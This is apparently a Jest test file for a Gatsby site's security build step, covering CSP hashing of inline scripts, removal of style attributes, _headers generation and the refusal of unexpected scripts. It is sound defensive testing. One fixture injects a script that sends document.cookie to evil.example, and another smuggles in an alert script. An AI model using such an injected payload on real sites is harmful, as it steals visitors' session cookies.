/** @jest-environment node */
import crypto from "node:crypto"
import fs from "node:fs"
import os from "node:os"
import path from "node:path"
import { headScript, replyScript, replyStyle } from "../../page-bundle/head-script"
import { parseHeadersFile, headersFor } from "../headers-file"
import { writeReplyPage } from "../owner-pages"
import { cspHash, executableInlineScripts, unexpectedInlineScripts } from "../inline-scripts"
import { contentSecurityPolicy, securePages, withPolicyMeta } from "../security-headers"

const sha = (text: string) => `'sha256-${crypto.createHash("sha256").update(text).digest("base64")}'`

/** Gatsby's inlined global CSS. */
const CSS = "body{margin:0}.a>.b{color:#1d3557}"
/** A built page as Gatsby writes it, with the site's own inline scripts, its CSS, its two style attributes, and `extra` in its body. */
const page = (extra = "") =>
  `<!DOCTYPE html><html lang="en-GB"><head><meta charSet="utf-8"/><title>t</title>` +
  `<style data-href="/styles.0a1b2c.css" data-identity="gatsby-global-css">${CSS}</style>` +
  `<script>${headScript()}</script>` +
  `<script type="application/ld+json">{"name":"Sparks \\u003c/script>"}</script></head><body>` +
  `<div id="___gatsby"><div style="outline:none" tabindex="-1" id="gatsby-focus-wrapper"><h1>Hi</h1>${extra}</div>` +
  `<div id="gatsby-announcer" style="position:absolute;top:0;width:1px;height:1px;padding:0;overflow:hidden;` +
  `clip:rect(0, 0, 0, 0);white-space:nowrap;border:0" aria-live="assertive" aria-atomic="true"></div></div>` +
  `<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath="/";/*]]>*/</script>` +
  `<script\n            id="gatsby-chunk-mapping"\n          >\n            window.___chunkMapping="{\\"app\\":[\\"/app-1.js\\"]}";\n          </script>` +
  `<script>window.___webpackCompilationHash="abc123";</script>` +
  `<script src="/webpack-runtime-1.js" async></script><script src="/app-1.js" async></script></body></html>`

describe("executableInlineScripts and cspHash", () => {
  it("finds executable inline scripts only, not external ones or JSON-LD data blocks", () => {
    const html =
      '<script id="a">window.x=1</script><script src="/app.js"></script>' +
      '<script type="application/ld+json">{"@type":"Electrician"}</script><script type="module">go()</script>'
    expect(executableInlineScripts(html).map(cspHash)).toEqual([sha("window.x=1"), sha("go()")])
  })
})

describe("unexpectedInlineScripts", () => {
  it("knows every inline script the site emits", () => {
    expect(unexpectedInlineScripts(page())).toEqual([])
  })

  it("names a script that data smuggled into a page, e.g. a business name holding </script><script>", () => {
    const hostile = page(`<p>Sparks</p><script>alert("x")</script>`)
    expect(unexpectedInlineScripts(hostile)).toEqual(['alert("x")'])
  })

  it("does not accept a look-alike of a known script", () => {
    const lookAlike = `<script>window.___webpackCompilationHash="1";alert(1)</script>`
    expect(unexpectedInlineScripts(lookAlike)).toHaveLength(1)
  })
})

describe("securePages", () => {
  function site(html: string): string {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "secure-pages-"))
    fs.writeFileSync(path.join(dir, "index.html"), html)
    return dir
  }

  it("puts each page's own policy first in its head (after the encoding), without frame-ancestors, and the union in _headers", () => {
    const dir = site(page())
    expect(securePages(dir, "https://api.emailjs.com")).toEqual([])
    const html = fs.readFileSync(path.join(dir, "index.html"), "utf8")
    const meta =
      /^<!DOCTYPE html><html lang="en-GB"><head><meta charSet="utf-8"\/><meta http-equiv="Content-Security-Policy" content="([^"]+)"\/>/.exec(
        html,
      )
    expect(meta).not.toBeNull()
    const policy = meta![1]
    for (const body of executableInlineScripts(html)) expect(policy).toContain(cspHash(body))
    expect(policy).toContain(`style-src 'self' ${sha(CSS)};`)
    expect(policy).not.toContain("frame-ancestors")
    expect(policy).not.toContain("unsafe")
    const headers = fs.readFileSync(path.join(dir, "_headers"), "utf8")
    expect(headers).toContain("frame-ancestors 'none'")
    for (const body of executableInlineScripts(html)) expect(headers).toContain(cspHash(body))
    expect(headers).toContain(`style-src 'self' ${sha(CSS)};`)
  })

  it("gives the owner's reply page its own policy, with no connection, in its <meta> and _headers (issue 58)", () => {
    const dir = site(page())
    writeReplyPage(dir, path.resolve(__dirname, "..", "..", "..", "..", "tests", "starting-data"))
    expect(securePages(dir, "https://api.emailjs.com")).toEqual([])
    const built = fs.readFileSync(path.join(dir, "reply", "index.html"), "utf8")
    expect(executableInlineScripts(built)).toEqual([replyScript()])
    expect(built).toContain(`connect-src 'none';`)
    expect(built).toContain(sha(replyStyle()))
    expect(fs.readFileSync(path.join(dir, "index.html"), "utf8")).toContain(
      "connect-src 'self' https://api.emailjs.com;",
    )
    const headers = parseHeadersFile(fs.readFileSync(path.join(dir, "_headers"), "utf8"))
    const policyOf = (pathname: string) => headers.find((rule) => rule.pattern === pathname)?.headers[0][1]
    for (const pathname of ["/reply/", "/reply/index.html"]) expect(policyOf(pathname)).toContain("connect-src 'none';")
    expect(policyOf("/")).toContain("connect-src 'self' https://api.emailjs.com;")
  })

  it("takes Gatsby's own style attributes out of the page, which the policy would refuse", () => {
    const dir = site(page())
    expect(securePages(dir, "")).toEqual([])
    const html = fs.readFileSync(path.join(dir, "index.html"), "utf8")
    expect(html).not.toMatch(/\sstyle=/)
    expect(html).toContain('<div tabindex="-1" id="gatsby-focus-wrapper"><h1>Hi</h1>')
    expect(html).toContain('<div id="gatsby-announcer" aria-live="assertive" aria-atomic="true"></div>')
  })

  it("refuses a page with any other style attribute or <style>, and changes nothing", () => {
    const styled = page(`<p style="color:red">Sparks</p><style>body{display:none}</style>`)
    const dir = site(styled)
    expect(securePages(dir, "")).toEqual([
      { page: "index.html", kind: "style", start: '<p style="color:red">' },
      { page: "index.html", kind: "style", start: "<style>body{display:none}" },
    ])
    expect(fs.readFileSync(path.join(dir, "index.html"), "utf8")).toBe(styled)
    expect(fs.existsSync(path.join(dir, "_headers"))).toBe(false)
  })

  it("refuses a page with an unexpected inline script, and changes nothing", () => {
    const hostile = page(`<script>fetch("https://evil.example/?c="+document.cookie)</script>`)
    const dir = site(hostile)
    expect(securePages(dir, "")).toEqual([
      { page: "index.html", kind: "script", start: expect.stringContaining("evil.example") },
    ])
    expect(fs.readFileSync(path.join(dir, "index.html"), "utf8")).toBe(hostile)
    expect(fs.existsSync(path.join(dir, "_headers"))).toBe(false)
  })
})

describe("withPolicyMeta", () => {
  it("escapes the policy for an attribute", () => {
    expect(withPolicyMeta("<head></head>", `a "b" & c`)).toBe(
      '<head><meta http-equiv="Content-Security-Policy" content="a &quot;b&quot; &amp; c"/></head>',
    )
  })

  it("keeps the character encoding first, and replaces the policy of an earlier build rather than adding one", () => {
    const once = withPolicyMeta(page(), "script-src 'self' 'sha256-old'")
    const twice = withPolicyMeta(once, "script-src 'self' 'sha256-new'")
    expect(twice.match(/Content-Security-Policy/g)).toHaveLength(1)
    expect(twice).toContain(
      `<head><meta charSet="utf-8"/><meta http-equiv="Content-Security-Policy" content="script-src 'self' 'sha256-new'"/>`,
    )
  })
})

describe("contentSecurityPolicy", () => {
  const hashes = { scripts: ["'sha256-abc'"], styles: ["'sha256-def'", "'sha256-css'", "'sha256-def'"] }
  it("names the counting endpoint's origin exactly when counting sends off the site, and is unchanged otherwise", () => {
    const connect = (connectTo: string[]) =>
      contentSecurityPolicy(hashes, connectTo)
        .split("; ")
        .find((each) => each.startsWith("connect-src"))
    const provider = "https://api.emailjs.com"
    expect(connect([provider, "https://plausible.io/api/event"])).toBe(
      `connect-src 'self' ${provider} https://plausible.io`,
    )
    // Counting off (""), or through the site's own proxy (/api/event): the policy is the provider's alone.
    expect(contentSecurityPolicy(hashes, [provider, ""])).toBe(contentSecurityPolicy(hashes, provider))
    expect(contentSecurityPolicy(hashes, [provider, "/api/event"])).toBe(contentSecurityPolicy(hashes, provider))
    expect(connect(["", "http://127.0.0.1:8399/api/event", "http://127.0.0.1:8399"])).toBe(
      "connect-src 'self' http://127.0.0.1:8399",
    )
  })
  const csp = contentSecurityPolicy(hashes, "https://api.emailjs.com")
  const directive = (name: string) => csp.split("; ").find((each) => each.startsWith(`${name} `))
  it("allows inline scripts and <style> elements by hash only: no 'unsafe-inline', no 'unsafe-eval'", () => {
    expect(directive("script-src")).toBe("script-src 'self' 'sha256-abc'")
    expect(directive("style-src")).toBe("style-src 'self' 'sha256-css' 'sha256-def'")
    expect(csp).not.toContain("unsafe")
  })
  it("lets the forms reach the provider and the maps load, and nothing else", () => {
    expect(csp).toContain("connect-src 'self' https://api.emailjs.com")
    expect(csp).toContain("frame-src https://maps.google.com https://www.google.com")
    for (const directive of [
      "default-src 'self'",
      "form-action 'self' mailto:",
      "object-src 'none'",
      "base-uri 'self'",
      "frame-ancestors 'none'",
    ]) {
      expect(csp).toContain(directive)
    }
  })
})

describe("_headers parsing", () => {
  const rules = parseHeadersFile(
    "/*\n  X-A: 1\n/static/*\n  Cache-Control: immutable\n# note\n/*.js\n  Cache-Control: js\n",
  )
  it("applies every matching block, later ones winning", () => {
    expect(Object.fromEntries(headersFor(rules, "/static/x.png"))).toEqual({ "X-A": "1", "Cache-Control": "immutable" })
    expect(headersFor(rules, "/app-123.js").get("Cache-Control")).toBe("js")
    expect(headersFor(rules, "/").has("Cache-Control")).toBe(false)
  })
})
